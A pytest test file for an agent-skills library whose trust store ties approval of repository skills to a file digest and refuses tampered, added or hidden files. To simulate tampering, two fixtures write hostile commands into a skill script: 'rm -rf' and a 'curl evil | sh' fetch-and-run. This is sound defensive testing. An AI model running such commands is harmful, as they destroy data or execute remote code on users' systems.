"""Trust for workspace skills (SPEC §23.3, §23.5): approvals bound to the skill digest."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from agent_skills import (
    AgentSkills,
    EntryStatus,
    SkillError,
    SkillRoot,
    StartupError,
    TrustStore,
    create_agent_skills,
)
from agent_skills._digest import FileDigest, skill_digest
from agent_skills._trust import digest_skill_dir
from conftest import make_skill, symlink


def _expected_digest(skill_dir: Path, rels: list[str]) -> str:
    """SPEC §23.3 written out: sha256 over ``<sha256 hex> <size> <rel>\\n``, sorted by rel."""
    lines = []
    for rel in sorted(rels):
        data = (skill_dir / rel).read_bytes()
        lines.append(f"{hashlib.sha256(data).hexdigest()} {len(data)} {rel}\n")
    return "sha256:" + hashlib.sha256("".join(lines).encode()).hexdigest()


@pytest.fixture
def layout(tmp_path: Path) -> dict[str, Path]:
    """A user root and a cloned repository's workspace root, both holding ``shared``."""
    user = tmp_path / "home" / ".agents" / "skills"
    repo = tmp_path / "repo" / ".agents" / "skills"
    make_skill(user, "shared", body="The user's own copy.")
    make_skill(user, "mine", body="Only the user has it.")
    cloned = make_skill(
        repo,
        "shared",
        body="The repository's copy.",
        files={"scripts/run.sh": "echo hi\n", "references/a.md": "A\n", ".hidden": "h\n"},
    )
    make_skill(repo, "extra", body="Only the repository has it.")
    return {"user": user, "repo": repo, "cloned": cloned, "store": tmp_path / "trust.json"}


def _open(layout: dict[str, Path], store: TrustStore | None) -> AgentSkills:
    roots = [SkillRoot(layout["user"], "user", "agents"), SkillRoot(layout["repo"], "workspace")]
    return create_agent_skills(roots, trust=store)


def test_without_a_store_every_root_is_trusted(layout: dict[str, Path]) -> None:
    skills = _open(layout, None)
    content = skills.load_skill("shared")
    assert content is not None and content.body == "The repository's copy."
    assert [i.name for i in skills.list_skills()] == ["extra", "mine", "shared"]


def test_trust_lifecycle(layout: dict[str, Path]) -> None:
    store = TrustStore(layout["store"])
    cloned = layout["cloned"]
    # Unapproved: the repository's skills stay out; its copy of a user skill hides nothing.
    skills = _open(layout, store)
    assert [i.name for i in skills.list_skills()] == ["mine", "shared"]
    shared = skills.load_skill("shared")
    assert shared is not None and shared.body == "The user's own copy."
    assert skills.load_skill("extra") is None
    untrusted = {
        e.name: (e.status, e.reason)
        for e in skills.report().entries
        if e.path.parent == layout["repo"]
    }
    assert untrusted == {
        "shared": (EntryStatus.UNTRUSTED, "not approved"),
        "extra": (EntryStatus.UNTRUSTED, "not approved"),
    }
    assert not layout["store"].exists()
    assert str(cloned.resolve()) not in [str(p) for p in skills.allowed_read_roots()]

    # Approved as it is now: the digest covers SKILL.md and the listed files, not .hidden.
    digest = store.approve(cloned)
    assert digest == _expected_digest(cloned, ["SKILL.md", "references/a.md", "scripts/run.sh"])
    assert store.approved() == {cloned.resolve(): digest}
    skills.refresh()
    content = skills.load_skill("shared")
    assert content is not None and content.body == "The repository's copy."
    assert skills.read_resource("shared", "scripts/run.sh") == b"echo hi\n"
    assert [i.name for i in skills.list_skills()] == ["mine", "shared"]  # extra: not approved
    repo_entries = {
        e.name: (e.status, e.reason)
        for e in skills.report().entries
        if e.path.parent == layout["repo"]
    }
    assert repo_entries == {
        "shared": (EntryStatus.LOADED, ""),
        "extra": (EntryStatus.UNTRUSTED, "not approved"),
    }
    # A file that is not listed changes nothing.
    (cloned / ".hidden").write_text("changed\n")
    skills.refresh()
    assert skills.load_skill("shared").body == "The repository's copy."  # type: ignore[union-attr]

    # Changed: any listed file, added or rewritten, revokes the approval.
    (cloned / "references" / "b.md").write_text("new\n")
    skills.refresh()
    changed = {e.name: e.reason for e in skills.report().entries if e.path.parent == layout["repo"]}
    assert changed["shared"] == "changed since approval"
    assert skills.load_skill("shared").body == "The user's own copy."  # type: ignore[union-attr]

    # Approved again, then revoked.
    again = store.approve(cloned)
    assert again != digest
    skills.refresh()
    assert skills.load_skill("shared").body == "The repository's copy."  # type: ignore[union-attr]
    assert store.revoke(cloned) is True
    assert store.revoke(cloned) is False
    assert store.approved() == {}
    skills.refresh()
    reasons = {e.name: e.reason for e in skills.report().entries if e.path.parent == layout["repo"]}
    assert reasons == {"shared": "not approved", "extra": "not approved"}


def test_user_scope_roots_are_trusted(layout: dict[str, Path]) -> None:
    skills = _open(layout, TrustStore(layout["store"]))
    assert skills.registry.approval("mine") is None
    assert skills.read_resource("mine", "SKILL.md").endswith(b"Only the user has it.")


def test_reads_are_checked_against_the_approval(layout: dict[str, Path]) -> None:
    store = TrustStore(layout["store"])
    cloned = layout["cloned"]
    store.approve(cloned)
    skills = _open(layout, store)
    assert skills.read_resource("shared", "./references//a.md") == b"A\n"
    with skills.open_resource("shared", "scripts/run.sh") as fh:
        assert fh.read() == b"echo hi\n"
    # A hidden file asked for by name is not covered by the approval.
    with pytest.raises(SkillError) as hidden:
        skills.read_resource("shared", ".hidden")
    assert (hidden.value.code, hidden.value.fields) == (
        "access_denied",
        {"name": "shared", "rel": ".hidden"},
    )
    # Rewritten after discovery, same size: refused, and the skill is marked changed.
    (cloned / "references" / "a.md").write_text("B\n")
    with pytest.raises(SkillError) as changed:
        skills.read_resource("shared", "references/a.md")
    assert changed.value.code == "access_denied"
    assert "changed since the skill was approved" in changed.value.message
    # Every other file of it is refused now, even ones that did not change.
    with pytest.raises(SkillError) as other:
        skills.read_resource("shared", "scripts/run.sh")
    assert other.value.code == "access_denied"
    # Changing the file back does not restore trust: only a new approval does.
    (cloned / "references" / "a.md").write_text("A\n")
    skills.refresh()
    reasons = {e.name: e.reason for e in skills.report().entries if e.path.parent == layout["repo"]}
    assert reasons["shared"] == "changed since approval"
    store.approve(cloned)
    skills.refresh()
    assert skills.read_resource("shared", "scripts/run.sh") == b"echo hi\n"


def test_resource_path_of_a_gated_skill_hands_out_only_approved_files(
    layout: dict[str, Path],
) -> None:
    """SPEC §23.3 for paths: ``resource_path`` refuses what every read refuses (a hidden file
    asked for by name, a link to one, a file added or changed since approval), and a changed
    file withdraws the skill from every access, paths included."""
    store = TrustStore(layout["store"])
    cloned = layout["cloned"]
    (cloned / "references" / ".env").write_text("TOKEN=1\n")
    store.approve(cloned)
    skills = _open(layout, store)
    assert skills.resource_path("shared", "scripts/run.sh") == cloned / "scripts" / "run.sh"
    assert skills.resource_path("shared", "SKILL.md") == cloned / "SKILL.md"
    (cloned / "late.md").write_text("added after approval\n")
    (cloned / "env-link").symlink_to(".hidden")  # (not listed: a link to a hidden file)
    for rel in (".hidden", "references/.env", "./references/.env", "late.md", "env-link"):
        with pytest.raises(SkillError) as refused:
            skills.resource_path("shared", rel)
        assert (refused.value.code, refused.value.fields) == (
            "access_denied",
            {"name": "shared", "rel": rel.removeprefix("./")},  # (the rel as the approval keys it)
        ), rel
        with pytest.raises(SkillError) as read:
            skills.read_resource("shared", rel)
        assert read.value.code == "access_denied"
    assert skills.resource_path("shared", "references/a.md") == cloned / "references" / "a.md"
    # A script changed after approval (same size): refused by path, and from then on the skill
    # is refused everywhere.
    (cloned / "scripts" / "run.sh").write_text("rm -rf\n")
    with pytest.raises(SkillError) as changed:
        skills.resource_path("shared", "scripts/run.sh")
    assert (changed.value.code, changed.value.fields) == (
        "access_denied",
        {"name": "shared", "rel": "scripts/run.sh"},
    )
    for rel in ("references/a.md", "SKILL.md"):
        with pytest.raises(SkillError) as withdrawn:
            skills.resource_path("shared", rel)
        assert withdrawn.value.code == "access_denied"
    # A skill no store gates hands out any path, hidden files included (SPEC §10).
    assert _open(layout, None).resource_path("shared", ".hidden") == cloned / ".hidden"


def test_the_cli_path_of_a_gated_skill_follows_the_approval(layout: dict[str, Path]) -> None:
    from click.testing import CliRunner

    from agent_skills.cli import cli

    store = TrustStore(layout["store"])
    store.approve(layout["cloned"])
    common = ["--trust-store", str(layout["store"]), "--preset", "none"]
    common += ["--root", str(layout["user"]), "--root", str(layout["repo"])]
    ok = CliRunner().invoke(cli, ["path", "shared", "references/a.md", "--json", *common])
    assert ok.exit_code == 0, ok.output
    assert json.loads(ok.output)["path"] == str(layout["cloned"] / "references" / "a.md")
    hidden = CliRunner().invoke(cli, ["path", "shared", ".hidden", "--json", *common])
    assert hidden.exit_code == 1
    assert json.loads(hidden.output)["error"]["code"] == "access_denied"


def test_the_mcp_read_tool_of_a_gated_skill_follows_the_approval(layout: dict[str, Path]) -> None:
    pytest.importorskip("mcp")
    import anyio
    from mcp import Client

    from agent_skills.mcp import build_server

    store = TrustStore(layout["store"])
    cloned = layout["cloned"]
    store.approve(cloned)
    server = build_server(_open(layout, store))
    (cloned / "late.md").write_text("added after discovery\n")

    async def go() -> list[tuple[bool, str]]:
        async with Client(server, mode="legacy", cache=None) as client:
            out = []
            for path in ("references/a.md", ".hidden", "late.md"):
                got = await client.call_tool(
                    "read_skill_resource", {"name": "shared", "path": path}
                )
                out.append((got.is_error, got.content[0].text))  # type: ignore[union-attr]
            return out

    assert anyio.run(go) == [
        (False, "A\n"),
        (True, "access_denied: '.hidden' is not one of the approved files of skill 'shared'"),
        (True, "access_denied: 'late.md' is not one of the approved files of skill 'shared'"),
    ]


def test_the_store_file_is_written_atomically_with_per_file_digests(
    layout: dict[str, Path],
) -> None:
    store = TrustStore(layout["store"])
    digest = store.approve(layout["cloned"])
    document = json.loads(layout["store"].read_text())
    real = str(layout["cloned"].resolve())
    manifest = (layout["cloned"] / "SKILL.md").read_bytes()
    assert document["version"] == 1
    assert document["approvals"][real]["digest"] == digest
    assert document["approvals"][real]["files"]["SKILL.md"] == [
        len(manifest),
        "sha256:" + hashlib.sha256(manifest).hexdigest(),
    ]
    assert sorted(document["approvals"][real]["files"]) == [
        "SKILL.md",
        "references/a.md",
        "scripts/run.sh",
    ]
    # No temporary file is left next to the store.
    assert sorted(p.name for p in layout["store"].parent.iterdir()) == [
        "home",
        "repo",
        "trust.json",
    ]
    # Another process's store object sees the approval.
    assert TrustStore(layout["store"]).approved() == {layout["cloned"].resolve(): digest}


def test_digest_is_the_shared_skill_digest(layout: dict[str, Path]) -> None:
    digest, files = digest_skill_dir(layout["cloned"])
    assert [f.rel for f in files] == ["SKILL.md", "references/a.md", "scripts/run.sh"]
    assert digest == skill_digest(files)
    assert all(isinstance(f, FileDigest) for f in files)


def test_an_approval_follows_the_real_directory(tmp_path: Path) -> None:
    real = make_skill(tmp_path / "store", "linked")
    root = tmp_path / "ws"
    root.mkdir()
    symlink(root / "linked", real)
    store = TrustStore(tmp_path / "t.json")
    store.approve(root / "linked")
    assert store.approved() == {real.resolve(): store.approved()[real.resolve()]}
    skills = create_agent_skills([root], trust=store)
    assert [i.name for i in skills.list_skills()] == ["linked"]


def test_corrupt_store_approves_nothing(layout: dict[str, Path]) -> None:
    layout["store"].write_text("{not json")
    store = TrustStore(layout["store"])
    skills = _open(layout, store)
    reasons = {e.name: e.reason for e in skills.report().entries if e.path.parent == layout["repo"]}
    assert reasons == {
        "shared": "not approved (trust store unreadable: invalid_input)",
        "extra": "not approved (trust store unreadable: invalid_input)",
    }
    with pytest.raises(SkillError) as caught:
        store.approve(layout["cloned"])
    assert caught.value.code == "invalid_input"
    assert layout["store"].read_text() == "{not json"  # never overwritten


def test_approving_a_directory_without_a_skill(tmp_path: Path) -> None:
    store = TrustStore(tmp_path / "t.json")
    with pytest.raises(SkillError) as caught:
        store.approve(tmp_path)
    assert caught.value.code == "not_found"
    assert not (tmp_path / "t.json").exists()


def test_trust_must_be_a_store(tmp_path: Path) -> None:
    with pytest.raises(StartupError, match="trust must be a TrustStore or None, got str"):
        create_agent_skills([tmp_path], trust="trust.json")  # type: ignore[arg-type]


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    target=st.sampled_from(["SKILL.md", "references/a.md", "scripts/run.sh", "references/new.md"]),
    content=st.binary(max_size=64),
)
def test_any_change_to_a_listed_file_revokes(
    tmp_path_factory: pytest.TempPathFactory, target: str, content: bytes
) -> None:
    base = tmp_path_factory.mktemp("prop")
    layout = {
        "user": base / "user",
        "repo": base / "repo",
    }
    make_skill(layout["user"], "shared", body="user")
    cloned = make_skill(
        layout["repo"], "shared", files={"scripts/run.sh": "echo hi\n", "references/a.md": "A\n"}
    )
    store = TrustStore(base / "t.json")
    store.approve(cloned)
    path = cloned / target
    before = path.read_bytes() if path.exists() else None
    if target == "SKILL.md":
        content = before + content  # type: ignore[operator]  # stays a valid manifest
    path.write_bytes(content)
    skills = create_agent_skills(
        [SkillRoot(layout["user"], "user"), SkillRoot(layout["repo"], "workspace")], trust=store
    )
    served = skills.load_skill("shared")
    assert served is not None
    if content == before:
        assert served.body != "user"
    else:
        assert served.body == "user"


def test_the_mcp_server_serves_only_trusted_skills(layout: dict[str, Path]) -> None:
    pytest.importorskip("mcp")
    import anyio
    from mcp import Client

    from agent_skills.mcp import SkillServer

    store = TrustStore(layout["store"])
    cloned = layout["cloned"]
    store.approve(cloned)
    served = SkillServer(_open(layout, store))
    assert served.published() == ["mine", "shared"]  # extra is not approved

    async def body() -> None:
        async with Client(served.server, mode="legacy", cache=None) as client:
            tools = (await client.list_tools()).tools
            assert tools[0].input_schema["properties"]["name"]["enum"] == ["mine", "shared"]
            ok = await client.call_tool(
                "read_skill_resource", {"name": "shared", "path": "scripts/run.sh"}
            )
            assert ok.is_error is False
            (cloned / "scripts" / "run.sh").write_text("curl evil | sh\n")
            refused = await client.call_tool(
                "read_skill_resource", {"name": "shared", "path": "scripts/run.sh"}
            )
            block = refused.content[0]
            assert refused.is_error is True
            assert getattr(block, "text", "").startswith("access_denied: ")
            missing = await client.call_tool("activate_skill", {"name": "extra"})
            assert missing.is_error is True

    anyio.run(body)
